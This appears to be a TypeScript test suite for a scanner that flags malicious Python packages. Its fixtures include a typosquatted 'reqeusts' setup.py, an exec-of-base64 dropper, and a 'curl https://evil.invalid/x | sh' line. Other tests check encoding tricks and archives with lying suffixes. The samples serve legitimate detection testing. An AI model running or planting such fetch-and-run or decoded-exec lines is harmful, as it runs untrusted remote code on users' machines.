import { join } from 'node:path';
import { memorySource } from '../../src/archive/memory-source.js';
import { RULESET_VERSION, inspect } from '../../src/inspect.js';
import type { Inspection } from '../../src/model/inspection.js';
import { PACKAGES, packSdist, packWheel } from '../support/pack.js';
import { python } from '../support/loaded-python.js';
import { gzip, writeTar } from '../support/tar-writer.js';
import { writeZip } from '../support/zip-writer.js';

async function inspectFixture(name: string, kind: 'wheel' | 'sdist'): Promise<Inspection> {
  const folder = join(PACKAGES, name);
  const found = kind === 'wheel' ? packWheel(folder) : packSdist(folder);
  return inspect(memorySource(found.bytes), found.filename, python);
}

test("the look-alike's setup.py is blocked by tier 2 alone, in the words of the example", async () => {
  const { findings } = await inspectFixture('reqeusts-1.0.0', 'sdist');
  const [worst] = [...findings].sort((a, b) => b.score - a.score);
  expect(worst).toMatchObject({
    rule: 'decoded-code-executed',
    severity: 'CRITICAL',
    reach: 'install',
    file: 'reqeusts-1.0.0/setup.py',
    line: 13,
  });
  expect(worst?.message).toMatch(/^Setup\.py contains: .*subprocess\.Popen.*base64\.b64decode/);
  expect(worst?.chain?.map(({ text }) => text)).toContain('base64.b64decode');
});

test.each([
  ['honest-lib-1.0', 'wheel'],
  ['static-sdist-1.0', 'sdist'],
  ['dynamic-sdist-1.0', 'sdist'],
  ['own-backend-1.0', 'sdist'],
] as const)('%s as %s passes', async (name, kind) => {
  const { findings, unscanned, metadata } = await inspectFixture(name, kind);
  expect(findings.filter(({ score }) => score >= 0.4)).toEqual([]);
  expect(unscanned).toEqual([]);
  expect(metadata?.name).toBe(name.replace(/-1\.0$/, ''));
});

const DROPPER = 'import os, base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n';
const FILLER = Object.fromEntries(
  Array.from({ length: 50 }, (_, at) => [
    `pkg/data${at}.py`,
    `TABLE = ${JSON.stringify('x '.repeat(5000))}\n`,
  ]),
);

async function inspectFile(bytes: Uint8Array): Promise<Inspection> {
  const { filename, bytes: wheel } = packWheel(
    { ...FILLER, 'pkg/core.py': bytes },
    { name: 'demo', version: '1.0' },
  );
  return inspect(memorySource(wheel), filename, python);
}

test('code is judged although a comment beside it is no UTF-8: an import runs it', async () => {
  const { findings } = await inspectFile(Buffer.from(`# \xff\n${DROPPER}`, 'latin1'));
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: 'decoded-code-executed', file: 'pkg/core.py' }),
  );
});

test('code is judged in the code page it declares', async () => {
  const { findings, unscanned } = await inspectFile(
    Buffer.from(`#coding:cp1251\n# \xef\n${DROPPER}`, 'latin1'),
  );
  const rules = findings.map(({ rule }) => rule);
  expect(rules).toEqual(expect.arrayContaining(['decoded-code-executed', 'unusual-encoding']));
  expect(unscanned).toEqual([]);
});

test.each(['utf-7', 'Unicode_Escape', 'nobodys'])(
  '%s: the file is unscanned, and that is said',
  async (name) => {
    const { findings, unscanned } = await inspectFile(Buffer.from(`#coding:${name}\n#+AAo-x = 1\n`));
    expect(unscanned).toMatchObject([{ file: 'pkg/core.py', code: 'unusual-encoding' }]);
    expect(findings).toMatchObject([
      name === 'nobodys'
        ? { rule: 'unusual-encoding', severity: 'LOW', line: 1 }
        : { rule: 'hiding-encoding', severity: 'HIGH', line: 1 },
    ]);
  },
);

test('what cannot be read is unscanned as a whole, with the code of its refusal', async () => {
  const { unscanned, findings } = await inspect(
    memorySource(Buffer.from('not a zip')),
    'a-1.0-py3-none-any.whl',
    python,
  );
  expect(findings).toEqual([]);
  expect(unscanned).toEqual([
    { artifact: 'a-1.0-py3-none-any.whl', code: 'format-mismatch', reason: expect.any(String) as string },
  ]);
});

const HOSTILE = 'import os\nos.system("curl https://evil.invalid/x | sh")\n';

test('a suffix that lies is a finding, and what is inside is judged as what it is', async () => {
  const wheel = writeZip([
    { name: 'pkg/__init__.py', data: Buffer.from(HOSTILE) },
    { name: 'pkg-1.0.dist-info/METADATA', data: Buffer.from('Name: pkg\nVersion: 1.0\n') },
  ]);
  const { findings, unscanned } = await inspect(memorySource(wheel), 'pkg-1.0.tar.gz', python);
  expect(unscanned.map(({ code }) => code)).toContain('format-mismatch');
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: 'hostile-command', severity: 'CRITICAL', reach: 'import' }),
  );
  expect(findings).toContainEqual(expect.objectContaining({ rule: 'suffix-lies', severity: 'CRITICAL' }));
});

test('an archive of a format that is not read is told by its first bytes', async () => {
  const xz = Buffer.from('fd377a585a000004e6d6b446', 'hex');
  const { findings } = await inspect(memorySource(xz), 'pkg-1.0.tar.gz', python);
  expect(findings).toMatchObject([
    { rule: 'suffix-lies', severity: 'CRITICAL', evidence: expect.stringContaining('xz') as string },
  ]);
});

test('bytes behind the archive hide nothing that lenient readers would install', async () => {
  const setup = { name: 'pkg-1.0/setup.py', data: Buffer.from(HOSTILE) };
  const sdist = Buffer.concat([gzip(writeTar([setup])), Buffer.from('trailing')]);
  const { findings, unscanned } = await inspect(memorySource(sdist), 'pkg-1.0.tar.gz', python);
  expect(unscanned.map(({ code }) => code)).toContain('gzip-corrupt');
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: 'hostile-command', severity: 'CRITICAL', reach: 'install' }),
  );
});

test('the version of the rules is a digest', () => {
  expect(RULESET_VERSION).toMatch(/^[0-9a-f]{8,}$/);
});
